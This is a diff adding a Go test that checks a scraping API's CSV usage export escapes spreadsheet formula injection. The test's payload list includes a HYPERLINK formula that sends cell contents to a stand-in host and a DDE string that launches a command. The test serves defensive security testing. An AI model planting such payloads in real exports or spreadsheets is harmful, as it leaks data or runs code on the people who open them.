@@ -105,3 +105,33 @@ func TestRequestRecord(t *testing.T) {
 	e.want(e.call("GET", "/v1/me/requests/"+health, key, nil), 404)    // an unauthenticated health call
 	e.want(e.call("GET", "/v1/me/requests/0123456789", key, nil), 404) // unknown
 }
+
+// A target URL is the caller's input and lands in the CSV export: cells a
+// spreadsheet would run as formulas come out as text.
+func TestUsageCSVEscapesFormulas(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t)
+	key := e.signup("csv-injection@example.com")
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"}
+	for _, p := range payloads {
+		e.want(e.call("POST", "/v1/scrape", key, map[string]any{"url": p}), 422)
+	}
+	e.flushUsage()
+	body := e.want(e.call("GET", "/v1/me/usage?format=csv", key, nil), 200).body
+	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]bool{}
+	for _, r := range records[1:] {
+		got[r[2]] = true
+		if r[3] != "422" {
+			t.Errorf("status cell %q must stay a plain number", r[3])
+		}
+	}
+	for _, p := range payloads {
+		if !got["'"+p] {
+			t.Errorf("url %q not escaped; cells: %q", p, records)
+		}
+	}
+}
